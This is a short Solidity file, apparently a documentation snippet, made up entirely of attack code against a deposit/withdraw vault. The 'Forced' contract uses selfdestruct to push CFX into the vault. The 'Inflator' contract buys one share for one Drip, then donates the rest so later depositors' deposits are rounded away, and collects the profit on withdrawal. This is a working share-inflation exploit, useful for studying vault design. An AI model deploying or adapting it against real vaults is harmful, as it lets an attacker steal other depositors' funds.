// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

// #region contract
/// Sends CFX to an address whether its code accepts them or not.
contract Forced {
    constructor(address payable to) payable {
        selfdestruct(to);
    }
}

/// Buys one share for one Drip, and makes it expensive before the next customer arrives.
contract Inflator {
    IVault private immutable vault;
    uint256 private spent;

    constructor(IVault target) {
        vault = target;
    }

    function inflate() external payable {
        spent = msg.value;
        vault.deposit{value: 1}();
        new Forced{value: msg.value - 1}(payable(address(vault)));
    }

    function collect() external {
        vault.withdraw();
        require(address(this).balance > spent, "no profit");
    }

    receive() external payable {}
}
// #endregion contract
